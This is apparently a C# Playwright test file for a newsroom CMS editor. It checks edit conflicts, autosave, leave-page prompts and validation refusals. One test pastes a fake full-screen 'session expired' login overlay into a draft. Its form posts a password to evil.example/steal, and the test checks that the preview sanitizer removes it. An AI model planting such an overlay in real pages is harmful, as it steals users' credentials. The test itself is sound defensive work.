using Masthead.Staff;
using Masthead.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Playwright;

namespace Masthead.Browser;

/// <summary>Nothing an editor types is lost, in Chromium: conflicts, autosave, leaving the page, and every refusal.</summary>
public sealed class EditorSafetyTests : BrowserApp
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private Task<string> BodyOfAsync(int id) =>
        WithDbAsync(db => db.Articles.Where(a => a.Id == id).Select(a => a.BodyMarkdown).SingleAsync(Cancel));

    private static ILocator Body(IPage page) => page.GetByLabel("Body (Markdown)");
    private static ILocator Headline(IPage page) => page.GetByLabel("Headline", new() { Exact = true });

    private async Task<int> PublishedAsync(IPage page, string headline, string body)
    {
        await page.GotoAsync("/admin/articles/edit");
        await Headline(page).FillAsync(headline);
        await Body(page).FillAsync(body);
        await page.GetByRole(AriaRole.Button, new() { Name = "Publish now" }).ClickAsync();
        await Assertions.Expect(page.Locator(".title-row .status")).ToHaveTextAsync("Published");
        return int.Parse(page.Url.Split('/').Last());
    }

    [Fact]
    public async Task A_drafts_fake_login_overlay_stays_inside_the_preview_and_has_no_form()
    {
        var page = await SignedInAsync(StaffRole.Editor);
        await page.GotoAsync("/admin/articles/edit");
        await Headline(page).FillAsync("Session expired");
        await Body(page).FillAsync("""
            <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">
            <h2>Your session expired</h2>
            <form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>
            </div>

            Below the overlay.
            """);
        await Assertions.Expect(page.Locator("#preview-body h2")).ToHaveTextAsync("Your session expired");
        Assert.Equal((0, 0, 0), (await page.Locator("#preview-body form").CountAsync(), await page.Locator("#preview-body input").CountAsync(),
            await page.Locator("#preview-body button").CountAsync()));
        // The editor's own fields are still what a click reaches: nothing of the draft lies over them.
        await Headline(page).ClickAsync(new() { Trial = true, Timeout = 5_000 });
        await page.GetByRole(AriaRole.Button, new() { Name = "Save", Exact = true }).ClickAsync(new() { Trial = true, Timeout = 5_000 });
        var position = await page.Locator("#preview-body div").First.EvaluateAsync<string>("e => getComputedStyle(e).position");
        Assert.Equal("static", position);
    }

    [Fact]
    public async Task Two_people_save_one_article_and_the_second_is_shown_the_conflict_with_their_text_kept()
    {
        var author = await SignedInAsync(StaffRole.Editor);
        var editor = await SignedInAsync(StaffRole.Editor); // a browser context of its own
        var id = await PublishedAsync(author, "Harbour strike", "First paragraph.");
        await editor.GotoAsync($"/admin/articles/edit/{id}");

        await Body(author).FillAsync("First paragraph.\n\nThe author's paragraph.");
        await author.GetByRole(AriaRole.Button, new() { Name = "Save", Exact = true }).ClickAsync();
        await Assertions.Expect(author.Locator("main .flash")).ToContainTextAsync("saved");

        await Body(editor).FillAsync("First paragraph, tightened by the editor.");
        await editor.GetByRole(AriaRole.Button, new() { Name = "Save", Exact = true }).ClickAsync();
        var conflict = editor.Locator("section.conflict");
        await Assertions.Expect(conflict).ToBeVisibleAsync();
        await Assertions.Expect(conflict).ToBeFocusedAsync();
        await Assertions.Expect(conflict.Locator(".diff-added")).ToContainTextAsync(["The author's paragraph."]);
        Assert.Equal("First paragraph, tightened by the editor.", await Body(editor).InputValueAsync());
        Assert.Equal("First paragraph.\n\nThe author's paragraph.", await BodyOfAsync(id));
        await ScreenshotAsync(editor, "editor-conflict");

        // Merge by hand, then save: now it goes through.
        await Body(editor).FillAsync("First paragraph, tightened by the editor.\n\nThe author's paragraph.");
        await conflict.GetByRole(AriaRole.Button, new() { Name = "Keep mine (save over theirs)" }).ClickAsync();
        await Assertions.Expect(editor.Locator("main .flash")).ToContainTextAsync("saved");
        Assert.Equal("First paragraph, tightened by the editor.\n\nThe author's paragraph.", await BodyOfAsync(id));
    }

    [Fact]
    public async Task Typing_is_autosaved_and_offered_back_and_leaving_with_unsaved_text_asks_first()
    {
        var page = await SignedInAsync(StaffRole.Editor);
        var dialogs = new List<string>();
        page.Dialog += async (_, dialog) =>
        {
            dialogs.Add(dialog.Type);
            if (dialog.Type == "confirm") await dialog.DismissAsync(); else await dialog.AcceptAsync();
        };
        await page.GotoAsync("/admin/articles/edit");
        await Headline(page).FillAsync("Typed and never saved");
        await Body(page).FillAsync("A paragraph the power cut would have taken.");
        await Assertions.Expect(page.Locator(".autosave-status")).ToContainTextAsync("kept as a draft", new() { Timeout = 10_000 });
        Assert.Equal(0, await WithDbAsync(db => db.Articles.CountAsync(Cancel)));

        // An in-app link asks; staying keeps the page as it is.
        await page.GetByRole(AriaRole.Link, new() { Name = "Articles", Exact = true }).ClickAsync();
        Assert.Contains("confirm", dialogs);
        Assert.EndsWith("/admin/articles/edit", page.Url);
        Assert.Equal("A paragraph the power cut would have taken.", await Body(page).InputValueAsync());

        // Reloading: the browser's own "leave site?" (accepted here), then the editor offers the text back.
        await page.ReloadAsync();
        Assert.Contains("beforeunload", dialogs);
        var offer = page.Locator("section.draft-waiting");
        await Assertions.Expect(offer).ToBeVisibleAsync();
        Assert.Equal("", await Body(page).InputValueAsync());
        await offer.GetByRole(AriaRole.Link, new() { Name = "Restore my unsaved text" }).ClickAsync();
        await Assertions.Expect(Headline(page)).ToHaveValueAsync("Typed and never saved");
        await Assertions.Expect(Body(page)).ToHaveValueAsync("A paragraph the power cut would have taken.");
        await page.GetByRole(AriaRole.Button, new() { Name = "Save", Exact = true }).ClickAsync();
        await Assertions.Expect(page.Locator(".title-row .status")).ToHaveTextAsync("Draft");
        Assert.Equal(0, await WithDbAsync(db => db.Drafts.CountAsync(Cancel)));
    }

    [Fact]
    public async Task Every_refusal_in_the_editor_keeps_what_was_typed()
    {
        var page = await SignedInAsync(StaffRole.Editor);
        page.Dialog += async (_, dialog) => await dialog.AcceptAsync();

        // Validation: no headline. The summary takes the focus and links to the field.
        await page.GotoAsync("/admin/articles/edit");
        await page.GetByLabel("Dek (standfirst)").FillAsync("A dek worth keeping");
        await Body(page).FillAsync("A body worth keeping.");
        await page.GetByRole(AriaRole.Button, new() { Name = "Save", Exact = true }).ClickAsync();
        var summary = page.Locator("section.error-summary");
        await Assertions.Expect(summary).ToBeFocusedAsync();
        await summary.GetByRole(AriaRole.Link, new() { Name = "A headline is required." }).ClickAsync();
        await Assertions.Expect(Headline(page)).ToBeFocusedAsync();
        Assert.Equal(("A dek worth keeping", "A body worth keeping."), (await page.GetByLabel("Dek (standfirst)").InputValueAsync(), await Body(page).InputValueAsync()));

        // A schedule in the past.
        await Headline(page).FillAsync("Late news");
        await page.GetByLabel("Publish at").FillAsync("2001-01-01T10:00");
        await page.GetByRole(AriaRole.Button, new() { Name = "Schedule", Exact = true }).ClickAsync();
        await Assertions.Expect(summary).ToContainTextAsync("Choose a time in the future");
        await Assertions.Expect(summary).ToBeFocusedAsync();
        Assert.Equal(("Late news", "A body worth keeping."), (await Headline(page).InputValueAsync(), await Body(page).InputValueAsync()));

        // Broken links: the confirmation keeps the form.
        await Body(page).FillAsync("A body worth keeping, citing [a report](#).");
        await page.GetByRole(AriaRole.Button, new() { Name = "Publish now" }).ClickAsync();
        await Assertions.Expect(page.Locator("section.confirm")).ToBeFocusedAsync();
        Assert.Equal("A body worth keeping, citing [a report](#).", await Body(page).InputValueAsync());
        await page.Locator("section.confirm").GetByRole(AriaRole.Button, new() { Name = "Publish anyway" }).ClickAsync();
        await Assertions.Expect(page.Locator(".title-row .status")).ToHaveTextAsync("Published");

        // A correction added while the body has an unsaved edit: both survive.
        await Body(page).FillAsync("An edit not saved yet.");
        await page.GetByLabel("Text", new() { Exact = true }).FillAsync("The report's title was wrong.");
        await page.GetByRole(AriaRole.Button, new() { Name = "Add note" }).ClickAsync();
        await Assertions.Expect(page.Locator("main .flash")).ToHaveTextAsync("Correction added.");
        Assert.Equal("An edit not saved yet.", await Body(page).InputValueAsync());
        await page.GetByRole(AriaRole.Button, new() { Name = "Update" }).ClickAsync();
        await Assertions.Expect(page.Locator("main .flash")).ToContainTextAsync("saved");
        var stored = await WithDbAsync(db => db.Articles.Include(a => a.Notes).SingleAsync(Cancel));
        Assert.Equal(("An edit not saved yet.", "The report's title was wrong."), (stored.BodyMarkdown, stored.Notes.Single().Text));
    }
}
